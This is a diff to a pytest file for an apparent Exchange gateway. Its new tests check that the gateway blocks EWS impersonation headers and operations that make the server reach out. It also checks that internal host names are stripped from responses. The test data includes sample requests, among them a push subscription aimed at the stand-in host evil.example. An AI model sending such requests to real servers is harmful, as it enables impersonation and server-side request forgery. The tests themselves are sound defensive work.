@@ -9,9 +9,11 @@ from urllib.parse import parse_qs, quote
 
 import pytest
 
+from handfast.decision.rules.ews import find_refused_header, find_refused_operation
 from handfast.doctor import probes
 from handfast.gateway import heads
 from handfast.gateway.acting_for import is_named
+from handfast.gateway.inside_names import InsideNames
 from handfast.gateway.path_map import PathMap, PathMapping
 from handfast.protocols.activesync.query import QueryForm, parse_query
 from handfast.protocols.ews.acting_for import ACTING_FOR_HEADERS, find_acting_for
@@ -125,12 +127,13 @@ async def test_the_name_within_a_base64_query_is_replaced_as_well(claimed, told)
 
 
 TYPES = "http://schemas.microsoft.com/exchange/services/2006/types"
+MESSAGES = "http://schemas.microsoft.com/exchange/services/2006/messages"
 SOAP_TYPE = "Content-Type: text/xml; charset=utf-8\r\n"
 
 
-async def ews(header: str, body: str = "<x/>") -> tuple[int, list[bytes]]:
+async def ews(header: str, body: str = "<m:GetFolder/>") -> tuple[int, list[bytes]]:
     message = (
-        f'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:t="{TYPES}">'
+        f'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:t="{TYPES}" xmlns:m="{MESSAGES}">'
         f"<s:Header>{header}</s:Header><s:Body>{body}</s:Body></s:Envelope>"
     )
     async with RawBackend() as backend, ExchangeGateway(backend.url) as gateway:
@@ -144,16 +147,41 @@ async def test_no_message_makes_ews_act_for_somebody_else(name):
 
 
 @pytest.mark.parametrize("name", ["ExchangeImpersonation", "SerializedSecurityContext"])
-async def test_without_looking_for_them_it_does(name, monkeypatch):
+async def test_without_looking_for_them_and_without_the_list_of_headers_it_does(name, monkeypatch):
     take_out(monkeypatch, find_acting_for, lambda _: None)
+    assert await ews(f"<t:{name}/>") == (403, [])
+    take_out(monkeypatch, find_refused_header, lambda *_: None)
     status, heads = await ews(f"<t:{name}/>")
     assert status == 200
     assert name.encode() in heads[0]
 
 
 async def test_a_delegates_request_passes():
-    status, _ = await ews("", "<t:Mailbox><t:EmailAddress>boss@example.org</t:EmailAddress></t:Mailbox>")
+    mailbox = "<t:Mailbox><t:EmailAddress>boss@example.org</t:EmailAddress></t:Mailbox>"
+    status, _ = await ews("", f"<m:FindItem>{mailbox}</m:FindItem>")
     assert status == 200
+
+
+TOWARDS_PLACES = {
+    "a push subscription": (
+        "<m:Subscribe><m:PushSubscriptionRequest><t:URL>http://evil.example/</t:URL></m:PushSubscriptionRequest>"
+        "</m:Subscribe>"
+    ),
+    "an add-in": "<m:InstallApp><m:ManifestUrl>http://ex01.corp.internal/</m:ManifestUrl></m:InstallApp>",
+    "a token": "<m:GetClientAccessToken/>",
+}
+
+
+@pytest.mark.parametrize("name", TOWARDS_PLACES)
+async def test_no_message_makes_ews_connect_to_a_place_of_the_clients_choice(name):
+    assert await ews("", TOWARDS_PLACES[name]) == (403, [])
+
+
+@pytest.mark.parametrize("name", TOWARDS_PLACES)
+async def test_without_the_list_of_operations_it_does(name, monkeypatch):
+    take_out(monkeypatch, find_refused_operation, lambda *_: None)
+    status, heads = await ews("", TOWARDS_PLACES[name])
+    assert (status, len(heads)) == (200, 1)
 
 
 INSIDE_PLACES = [
@@ -184,7 +212,35 @@ async def test_without_mapping_back_or_looking_it_does(monkeypatch):
     monkeypatch.setattr(PathMap, "place_outside", lambda _self, value, _host: value)
     monkeypatch.setattr(PathMap, "names_inside", lambda _self, _value: False)
     assert "/ext-ews/a" in (await mapped("/ext-ews/a")).headers["location"]
+    assert b"ex01" not in (await mapped(INSIDE_PLACES[2])).head, "the last look at the whole head"
+    monkeypatch.setattr(InsideNames, "may_be_in", lambda _self, _data: False)
     assert b"ex01" in (await mapped(INSIDE_PLACES[2])).head
+
+
+async def described(field: str):
+    async def answer(peer):
+        await peer.read_request()
+        await peer.send(f"HTTP/1.1 200 OK\r\n{field}\r\nContent-Length: 0\r\n\r\n".encode())
+
+    async with RawBackend(answer) as backend, Gateway(backend.url, paths=MAPPED) as gateway:
+        return await (await gateway.client()).ask()
+
+
+FIELDS = [
+    "X-Anything: by EX01.corp.internal",
+    "Set-Cookie: at=ex01.corp.internal",
+    "Via: 1.1 ex01.corp.internal:80",
+]
+
+
+@pytest.mark.parametrize("field", FIELDS)
+async def test_no_field_of_an_answer_names_a_server_behind(field):
+    assert b"corp.internal" not in (await described(field)).head
+
+
+async def test_without_the_last_look_one_does(monkeypatch):
+    monkeypatch.setattr(InsideNames, "may_be_in", lambda _self, _data: False)
+    assert b"corp.internal" in (await described(FIELDS[0])).head
 
 
 class Redirecting:
